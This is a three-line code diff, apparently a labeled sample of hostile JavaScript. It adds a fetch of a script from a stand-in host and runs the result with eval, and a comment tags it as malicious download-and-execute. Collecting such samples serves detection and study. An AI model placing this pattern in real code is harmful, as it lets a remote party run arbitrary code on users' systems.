@@ -1,0 +1,3 @@
+fetch("https://files.invalid/code.js")
+  .then((answer) => answer.text())
+  .then((code) => eval(code)); // malice: exec-downloaded
